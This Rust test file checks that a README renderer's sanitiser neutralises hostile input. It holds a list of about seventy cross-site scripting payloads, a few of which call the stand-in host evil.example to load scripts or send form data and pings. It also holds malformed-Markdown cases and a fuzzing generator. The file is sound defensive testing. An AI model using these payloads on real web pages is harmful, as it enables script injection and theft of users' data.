//! What hostile and broken READMEs try. Each result must pass [`strict`].

use super::{rendered, strict};
use crate::render;
use proptest::prelude::*;

/// From the usual collections of filter evasions, and against this pipeline's
/// own seams: Markdown and HTML, heading rewriting, id prefixes, srcset.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src=`x`/onerror=alert(1)>",
    "<img src='https://a.b/c' alt='\"><script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://evil.example\"><input name=q><button>go</button></form>",
    "<input type=\"image\" src=\"x\" onerror=\"alert(1)\" formaction=\"javascript:x\">",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<style>body{display:none}</style><p style=\"position:fixed\">x</p>",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:x\">x</a><a href=\"//evil.example\" target=_top>x</a>",
    "<a href=\"https://a.b/\" ping=\"https://evil.example\" download>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,x 'onmouseover=alert(1)')",
    "![x](javascript:alert(1))",
    "![\"onerror=\"alert(1)](https://a.b/c)",
    "[x]\n\n[x]: javascript:alert(1) \"t\"",
    "<javascript:alert(1)>",
    "[x](https://a.b/\"onclick=\"alert(1))",
    "```x\"onclick=\"alert(1)\nx\n```",
    "```rust\"><script>alert(1)</script>\nx\n```",
    "# <script>alert(1)</script>\n",
    "# \"><img src=x onerror=alert(1)>\n",
    "# x {#id onclick=alert(1)}\n",
    "[^\"><script>]: x\n\ny[^\"><script>]\n",
    "<picture><source srcset=\"javascript:alert(1) 2x, https://a.b/c\"></picture>",
    "<source srcset=\"https://a.b/c\\\" onerror=\\\"alert(1)\">",
    "<img srcset=\"x 1x\" src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<p id=\"main\" class=\"btn\" name=\"x\" data-x=1 aria-label=y>x</p>",
    "<img title=\"<h1>\" alt=\"</h1><script>\" src=https://a.b/c>",
    "<h1 title='><script>alert(1)</script>'>x</h1>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)><html onclick=x><frameset onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:x>",
    "<p\u{0}onclick=alert(1)>x</p>\u{0}<scr\u{0}ipt>",
    "<custom-element onconnected=x is=y>x</custom-element><slot name=x>",
    "<table><a href=javascript:x><tr><td onclick=x>x",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

#[test]
fn no_attack_gets_through() {
    for attack in ATTACKS {
        // Alone, inside of text, and in the other formats.
        rendered(attack);
        rendered(&format!("Text {attack} text\n\n> {attack}\n\n- {attack}\n"));
        let plain = render("README.txt", attack, None).unwrap_or_default();
        strict::check(&plain);
        assert!(!plain.contains("<script"), "{plain}");
    }
}

#[test]
fn code_that_is_no_html_stays_readable() {
    let html = rendered("Use `<script>` and `Vec<T>`:\n\n    <iframe src=\"x\">\n");
    for part in [
        "<code>&lt;script&gt;</code>",
        "Vec&lt;T&gt;",
        "&lt;iframe src=",
    ] {
        assert!(html.contains(part), "{part} in {html}");
    }
}

#[test]
fn malformed_markdown_is_survived() {
    let deep = [
        ">".repeat(2000),
        "- ".repeat(2000),
        "[".repeat(2000),
        "*".repeat(2000),
    ];
    let odd = [
        "[unclosed](",
        "![",
        "```",
        "| a |\n|--",
        "[^1]",
        "[^1]:",
        "<a href=\"",
        "<!--",
        "&#xFFFFFFFF;",
        "# \r\r\r",
        "\u{202e}\u{0}\u{fffd}",
        "<p><div></p></div><b><i></b></i>",
        "</div></td></h1>",
    ];
    for text in deep.iter().map(String::as_str).chain(odd) {
        rendered(text);
    }
    rendered(&"<div><b>".repeat(2000));
    rendered(&"<h1>".repeat(2000));
}

/// Pieces that matter to a parser, in any order.
fn soup() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "<",
        ">",
        "\"",
        "'",
        "`",
        "=",
        "/",
        "&",
        "#",
        "!",
        "[",
        "]",
        "(",
        ")",
        "\n",
        "\n\n",
        " ",
        "\t",
        "\u{0}",
        "x",
        "|",
        "-",
        "---|---",
        "```",
        "~~~",
        "> ",
        "- [x] ",
        "[^1]",
        "[^1]: ",
        "# ",
        ":",
        "<script>",
        "</script>",
        "<style>",
        "</style>",
        "<svg>",
        "<math>",
        "<mtext>",
        "<table>",
        "<td>",
        "<h1>",
        "</h1>",
        "<a href=",
        "<img src=",
        "<source srcset=",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "javascript:alert(1)",
        "data:text/html,",
        "https://a.b/",
        "onerror=",
        " onclick=\"x\"",
        "style=",
        "id=",
        "class=\"language-x y\"",
        "&lt;",
        "&#x6A;",
        "<noscript>",
        "<title>",
        "<textarea>",
        "<iframe srcdoc=",
        "<form>",
        "<input>",
        "<select>",
        "<template>",
        "<p>",
        "</p>",
        "<br/>",
    ]);
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn no_soup_of_markup_gets_through(text in soup()) {
        rendered(&text);
    }

    #[test]
    fn no_text_gets_through(text in "(?s).{0,200}", path in "README(\\.(md|rst|txt))?") {
        strict::check(&render(&path, &text, None).unwrap_or_default());
    }
}
